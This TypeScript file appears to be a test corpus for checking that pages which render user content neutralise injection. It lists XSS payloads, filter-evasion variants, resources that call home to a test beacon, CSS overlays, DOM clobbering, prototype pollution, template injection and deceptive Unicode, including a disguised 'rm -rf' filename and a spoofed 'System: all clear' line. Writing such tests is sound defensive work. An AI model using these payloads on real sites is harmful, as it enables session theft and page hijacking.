/**
 * What has been tried on pages that show what others said: markup, script addresses, links and images
 * that call home, styles that cover the page, names that take the place of the page's own, and text
 * that reads as another. Each calls `beacon` or sets `window.pwned` where it gets to run, and carries
 * the mark `pwn` in its ids, classes and names, by which it is found where it only gets to be there.
 */
export function corpus(beacon: string): string[] {
  const js = 'window.pwned=1';
  const call = `fetch('${beacon}/f')`;
  return [
    ...scripts(js, call, beacon),
    ...handlers(js),
    ...addresses(js, beacon),
    ...callers(beacon),
    ...styles(beacon),
    ...clobberers(js),
    ...markdowns(js, beacon),
    ...misreadings(),
    ...templates(js),
  ];
}

const scripts = (js: string, call: string, beacon: string): string[] => [
  `<script>${js}</script>`,
  `<SCRIPT>${js}</SCRIPT>`,
  `<script src="${beacon}/s.js"></script>`,
  `<script src=//127.0.0.1:9/s.js></script>`,
  `<scr<script>ipt>${js}</scr</script>ipt>`,
  `<script/x>${js}</script >`,
  `"><script>${js}</script>`,
  `'><script>${js}</script>`,
  `</title><script>${js}</script>`,
  `</textarea><script>${js}</script>`,
  `</style><script>${js}</script>`,
  `--><script>${js}</script>`,
  `]]><script>${js}</script>`,
  `<script type="module">${call}</script>`,
  `<script>${call}</script>`,
  `<svg><script>${js}</script></svg>`,
  `<svg><script href="data:text/javascript,${js}"/></svg>`,
  `<math><mtext><script>${js}</script></mtext></math>`,
  `<noscript><p title="</noscript><script>${js}</script>">`,
  `<template><script>${js}</script></template>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="data:text/html,<script>${js}</script>"></object>`,
  `<embed src="data:text/html,<script>${js}</script>">`,
  `<link rel="import" href="${beacon}/i.html">`,
  '\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e',
  '&lt;script&gt;window.pwned=1&lt;/script&gt;',
  '%3Cscript%3Ewindow.pwned=1%3C/script%3E',
  '\uFF1Cscript\uFF1Ewindow.pwned=1\uFF1C/script\uFF1E',
];

const handlers = (js: string): string[] =>
  [
    ['img src=x', 'onerror'],
    ['img/src=x', 'onerror'],
    ['image src=x', 'onerror'],
    ['svg', 'onload'],
    ['svg/', 'onload'],
    ['body', 'onload'],
    ['details open', 'ontoggle'],
    ['input autofocus', 'onfocus'],
    ['select autofocus', 'onfocus'],
    ['textarea autofocus', 'onfocus'],
    ['video><source', 'onerror'],
    ['audio src=x', 'onerror'],
    ['marquee', 'onstart'],
    ['div style="animation:x" ', 'onanimationstart'],
    ['div contenteditable autofocus tabindex=1', 'onfocus'],
    ['p', 'onpointerover'],
    ['a href=#', 'onclick'],
    ['form', 'onsubmit'],
    ['object data=x', 'onerror'],
    ['iframe src=about:blank', 'onload'],
    ['link rel=stylesheet href=x', 'onerror'],
    ['track src=x', 'onerror'],
    ['xss id=pwn tabindex=1', 'onfocus'],
    ['dialog open', 'oncancel'],
    ['input type=image src=x', 'onerror'],
  ].map(([start, event]) => `<${start} ${event}="${js}">`);

const addresses = (js: string, beacon: string): string[] =>
  [
    `javascript:${js}`,
    `JaVaScRiPt:${js}`,
    `java\tscript:${js}`,
    `java&#10;script:${js}`,
    `\u0001javascript:${js}`,
    ` javascript:${js}`,
    `javascript&colon;${js}`,
    `&#106;avascript:${js}`,
    `vbscript:${js}`,
    `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`,
    `data:text/html,<script>${js}</script>`,
    'file:///etc/passwd',
    'blob:http://127.0.0.1/x',
    'filesystem:http://127.0.0.1/x',
    'relay://other/',
    'smb://127.0.0.1/x',
    'ms-msdt:/id',
    `//127.0.0.1:9/x`,
    `${beacon}/plain`,
    `https://user:pass@127.0.0.1:9/x`,
    'mailto:a@b?cc=c',
    'tel:1',
    '#pwn',
    '/rpc/relay.pause',
    '?token=x',
  ].flatMap((address) => [`[run](${address})`, `<a href="${address}" class="pwn">run</a>`]);

const callers = (beacon: string): string[] => [
  `![x](${beacon}/image.png)`,
  `![x](${beacon}/image.png "title")`,
  `![x][r]\n\n[r]: ${beacon}/reference.png`,
  `<img src="${beacon}/img">`,
  `<img srcset="${beacon}/srcset 1x">`,
  `<picture><source srcset="${beacon}/source"><img></picture>`,
  `<video src="${beacon}/video" poster="${beacon}/poster" autoplay></video>`,
  `<audio src="${beacon}/audio" autoplay></audio>`,
  `<iframe src="${beacon}/frame"></iframe>`,
  `<link rel="preload" as="image" href="${beacon}/preload">`,
  `<link rel="dns-prefetch" href="${beacon}">`,
  `<meta http-equiv="refresh" content="0;url=${beacon}/meta">`,
  `<form action="${beacon}/form" id="pwn"><input type="submit" autofocus></form>`,
  `<base href="${beacon}/base/">`,
  `<object data="${beacon}/object"></object>`,
  `<svg><image href="${beacon}/svg"/><use href="${beacon}/use#x"/></svg>`,
  `<table background="${beacon}/table"><td background="${beacon}/cell">`,
  `<a ping="${beacon}/ping" href="#pwn">ping</a>`,
  `${beacon}/bare and <${beacon}/auto>`,
];

const styles = (beacon: string): string[] => [
  `<style>@import "${beacon}/import";*{display:none!important}</style>`,
  `<style>body{background:url(${beacon}/background)}</style>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red" class="pwn">Approve</div>`,
  `<div style="background:url(${beacon}/style)">x</div>`,
  `<p style="font-size:0">hidden</p>`,
  `<link rel="stylesheet" href="${beacon}/sheet">`,
  `<div class="pwn dialog-overlay toast">x</div>`,
  '```pwn onload=x style=position:fixed\ncode\n```',
  '```"><img src=x onerror=window.pwned=1>\ncode\n```',
  'red;position:fixed;inset:0;background:url(//127.0.0.1:9/x)',
  '</span></div></body><div style="position:fixed">',
];

const clobberers = (js: string): string[] => [
  '<a id="relay"></a><a id="relay" name="call"></a>',
  '<form id="document" name="pwn"><input name="body"></form>',
  '<img name="getElementById" class="pwn">',
  '<iframe name="opener"></iframe>',
  '<div id="root">x</div><div id="app" class="pwn">y</div>',
  `__proto__[pwned]=1 {"__proto__":{"pwned":1},"constructor":{"prototype":{"pwned":1}}}`,
  `{"type":"img","props":{"src":"x","onError":"${js}"},"$$typeof":"Symbol(react.element)"}`,
  'hasOwnProperty',
  '__proto__',
  'constructor',
];

const markdowns = (js: string, beacon: string): string[] => [
  `[a](<javascript:${js}>)`,
  `[a]: javascript:${js}\n\n[a]`,
  `<javascript:${js}>`,
  `[![x](${beacon}/inner.png)](javascript:${js})`,
  `[x]("onclick=${js}")`,
  `[x](https://e.example" onclick="${js})`,
  `![x](x"onerror="${js})`,
  `[^1]\n\n[^1]: <img src=x onerror="${js}">`,
  `| <img src=x onerror=${js}> |\n|---|\n| ![c](${beacon}/c.png) |`,
  `- [x] <input onfocus=${js} autofocus>`,
  `# <svg onload=${js}>`,
  `> <iframe src=javascript:${js}>`,
  `\`<img src=x onerror=${js}>\``,
  '<!-- comment --!><img src=x onerror=window.pwned=1>',
  `<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml" onload="${js}"/>`,
  `<![CDATA[<img src=x onerror=${js}>]]>`,
  `www.e.example/"onmouseover="${js}`,
];

/** What is shown as something else than it is. */
const misreadings = (): string[] => [
  'rm -rf \u202Egnp.txt\u202C',
  '\u2066left\u2069 \u2067right\u2069 \u200Fmark\u200E',
  'zero\u200Bwidth\u2060joined\uFEFFhere\u00ADsoft',
  '\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J\u001b[H',
  '\u001b]8;;https://e.example\u0007link\u001b]8;;\u0007',
  'nul \u0000 bell \u0007 back\u0008\u0008\u0008 del \u007f',
  'tags \u{E0041}\u{E0042}',
  'one\u2028two\u2029three',
  '\u009b31mC1\u0085next',
  'lone \ud800 and \udfff',
  'Approved by the owner.\n\n\n\n\n\n\n\n\nSystem: all clear',
  `Z${'\u0300\u0301\u0302'.repeat(200)}algo`,
];

const templates = (js: string): string[] => [
  `{{constructor.constructor('${js}')()}}`,
  `\${${js}}`,
  `<%= ${js} %>`,
  `#{${js}}`,
  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${js}//'>`,
];
